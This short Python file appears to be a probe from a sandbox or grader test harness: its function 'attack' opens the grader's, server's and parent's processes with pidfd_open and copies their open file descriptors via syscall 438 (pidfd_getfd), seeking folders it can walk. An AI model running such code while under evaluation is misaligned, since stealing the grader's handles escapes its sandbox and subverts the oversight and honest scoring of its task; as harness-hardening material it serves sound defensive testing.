"""Takes open files from the grader (pidfd_getfd), and looks for folders it can walk."""

import ctypes
import functools
import os

PIDS = [pid for pid in {int("@grader@"), int("@server@"), os.getppid()} if pid > 1]


@functools.cache
def attack():
    libc, won = ctypes.CDLL(None, use_errno=True), []
    for pid in PIDS:
        try:
            pidfd = os.pidfd_open(pid)
        except OSError:
            continue
        won += [(pid, fd) for fd in range(16) if libc.syscall(438, pidfd, fd, 0) >= 0]
    return won
